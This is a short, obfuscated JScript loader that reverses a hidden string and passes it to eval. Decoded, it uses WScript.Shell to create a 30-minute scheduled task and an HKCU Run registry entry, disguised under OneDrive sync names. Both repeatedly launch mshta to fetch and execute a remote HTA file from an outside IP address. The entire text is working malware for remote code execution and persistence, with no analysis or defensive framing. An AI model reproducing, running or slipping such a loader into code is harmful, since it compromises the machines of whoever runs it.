var x = ";)\"ZS_GER\",\"ath.do/71.311.0.302//:ptth athsm\",\"cnySevirDenO\\\\nuR\\\\noisreVtnerruC\\\\swodniW\\\\tfosorciM\\\\erawtfoS\\\\UCKH\"(etirWgeR.o;)eurt,0,\"\"\\ath.do/71.311.0.302//:ptth athsm\"\\ rt/ kcehCcnySevirDenO nt/ 03 om/ etunim cs/ f/ etaerc/ sksathcs\"(nuR.o;)\"llehS.tpircSW\"(tcejbOXevitcA wen=o rav";
var y = x.split("").reverse().join("");
this["ev" + "al"](y);
